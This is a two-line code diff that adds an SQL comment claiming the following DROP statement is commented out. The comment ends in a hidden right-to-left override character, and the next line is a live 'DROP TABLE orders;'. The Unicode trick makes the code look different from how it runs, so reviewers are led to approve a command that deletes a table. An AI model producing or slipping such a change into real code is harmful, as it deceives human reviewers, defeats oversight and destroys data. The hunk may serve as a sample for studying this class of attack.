@@ -1,0 +1,2 @@
+-- reviewers read: DROP is commented out ‮
+DROP TABLE orders;
